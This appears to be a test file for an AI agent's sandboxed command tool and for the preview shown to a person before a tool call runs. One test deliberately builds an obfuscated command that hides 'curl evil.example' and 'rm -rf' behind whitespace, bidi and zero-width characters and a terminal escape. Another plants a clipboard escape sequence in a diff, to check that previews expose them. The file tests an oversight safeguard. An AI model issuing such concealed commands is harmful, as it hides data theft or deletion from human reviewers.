// run, and what a person is shown before a call is released.

import { describe, expect, it } from "vitest";
import { createBwrapSandbox } from "../../../src/adapters/sandbox/bwrap-sandbox.ts";
import { createTools } from "../../../src/adapters/tools/create-tools.ts";
import { describeNeeding } from "../../support/needs.ts";
import { createTempFolder } from "../temp-folder.ts";
import { call, contextOf, preview, tools } from "./tool-setup.ts";

const newRoot = createTempFolder();

describe("run", () => {
  it.each([
    ["echo hi", true, /^\[exit code 0, \d+\.\d s\]\nhi\n$/],
    ["echo oh >&2; exit 3", false, /^\[exit code 3, \d+\.\d s\]\noh\n$/],
    ["kill -9 $$", false, /^\[ended by a signal, /],
  ])("TOOL9 %s", async (command, ok, output) => {
    expect(await call(newRoot(), "run", { command })).toMatchObject({
      ok,
      output: expect.stringMatching(output),
      changed: [],
    });
  });

  it("TOOL9 a model may ask for less time than the limit, and not for more", async () => {
    const root = newRoot();
    expect(await call(root, "run", { command: "sleep 30", timeoutSeconds: 1 })).toMatchObject({
      ok: false,
      output: expect.stringContaining("[stopped after 1000 ms"),
    });
    const context = { ...contextOf(root), commandMs: 700 };
    const result = await tools.run(
      { tool: "run", args: '{"command":"sleep 30","timeoutSeconds":3600}', repeat: false },
      context,
      new AbortController().signal,
    );
    expect(result.output).toContain("[stopped after 700 ms");
  });

  it("TOOL8 A-70 output is cut to 32 KiB", async () => {
    const { output } = await call(newRoot(), "run", { command: "seq 1 1000000" });
    expect(Buffer.byteLength(output)).toBeLessThan(33_500);
    expect(output).toContain("bytes cut here");
  });

  it("TOOL6 A-15 a missing sandbox is a fault of the world, not an answer for the model", async () => {
    const bare = createTools({ sandbox: createBwrapSandbox({ bwrap: "/nowhere/bwrap" }) });
    const running = bare.run(
      { tool: "run", args: '{"command":"true"}', repeat: false },
      contextOf(newRoot()),
      new AbortController().signal,
    );
    await expect(running).rejects.toMatchObject({ code: "sandbox_unavailable" });
  });

  it("TOOL2 a run without a folder runs no command", async () => {
    expect(await call("", "run", { command: "true" })).toMatchObject({
      ok: false,
      output: expect.stringContaining("no folder"),
    });
  });
});

describeNeeding("bubblewrap", "run in bubblewrap", () => {
  it("TOOL5 a command sees the folders that the conductor gave, and cannot name others", async () => {
    const shared = newRoot({ "objects/x": "given" });
    const walled = createTools({ sandbox: createBwrapSandbox(), readable: [shared] });
    const args = JSON.stringify({ command: `cat ${shared}/objects/x; ls ${newRoot({ y: "" })}` });
    const { output } = await walled.run(
      { tool: "run", args, repeat: false },
      contextOf(newRoot()),
      new AbortController().signal,
    );
    expect(output).toContain("given");
    expect(output).toContain("No such file or directory");
  });
});

describe("preview", () => {
  it("TOOL12 an edit is a diff against the file as it is", async () => {
    const root = newRoot({ f: "one\ntwo\nthree\n" });
    expect(await preview(root, "edit", { path: "f", old: "two", new: "2" })).toBe(
      "--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n",
    );
  });

  it("TOOL12 a write is a diff against the file, or against nothing", async () => {
    const root = newRoot({ f: "a\n" });
    expect(await preview(root, "write", { path: "f", content: "a\nb\n" })).toContain("+b\n");
    expect(await preview(root, "write", { path: "new", content: "x" })).toBe(
      "--- /dev/null\n+++ b/new\n@@ -0,0 +1,1 @@\n+x\n\\ No newline at end of file\n",
    );
    expect(await preview(root, "write", { path: "f", content: "a\n" })).toBe("f stays as it is");
  });

  it("TOOL12 what will be refused or fail says so", async () => {
    const root = newRoot({ f: "a\n" });
    expect(await preview(root, "edit", { path: "f", old: "zzz", new: "x" })).toContain("will fail");
    expect(await preview(root, "write", { path: ".npmrc", content: "x" })).toContain("will be refused");
    expect(await preview(root, "write", { path: "f", content: "x" }, ["src/**"])).toContain(
      "outside what this ticket may change",
    );
    expect(await preview(root, "run", { command: "true", sandbox: false })).toContain("will be refused");
  });

  it("TOOL12 A-57 a command is shown whole, with its length, nothing hidden and nothing out of sight", async () => {
    const command = `echo safe${" ".repeat(4_096)}; curl evil.example${"\n".repeat(60)}rm \u202e-rf\u200b x\u{e0041} \u001b[8m#`;
    const shown = await preview(newRoot(), "run", { command });
    expect(shown).toContain(`${command.length} characters in 61 lines, at most 20 s`);
    expect(shown).toContain("[4096 spaces]; curl evil.example");
    expect(shown).toMatch(/\[\d+ blank lines\]/);
    expect(shown).toContain("rm \\u{202e}-rf\\u{200b} x\\u{e0041} \\x1b[8m#");
    expect(shown).toContain("! Hidden characters, shown above as escapes: U+202E (bidi) 1 times");
    expect(shown).not.toContain("\u001b");
  });

  it("TOOL12 A-57 a diff shows hidden characters and terminal sequences as escapes", async () => {
    const root = newRoot({ f: "a\n" });
    const shown = await preview(root, "write", { path: "f", content: "a\u2066b\u001b]52;c;eA==\u0007\n" });
    expect(shown).toContain("+a\\u{2066}b\\x1b]52;c;eA==\\x07");
    expect(shown).toContain("U+2066 (bidi)");
  });

  it("TOOL12 A-70 two large files that differ everywhere still come out", async () => {
    const root = newRoot({ f: Array.from({ length: 60_000 }, (_, n) => `old ${n}\n`).join("") });
    const content = Array.from({ length: 60_000 }, (_, n) => `new ${n}\n`).join("");
    const shown = await preview(root, "write", { path: "f", content });
    expect(shown).toContain("new 0");
    expect(shown).toContain("are not shown]");
  });

  it("TOOL12 anything else is shown as its arguments", async () => {
    expect(await preview(newRoot(), "read", { path: "a" })).toBe('{\n  "path": "a"\n}');
  });
});
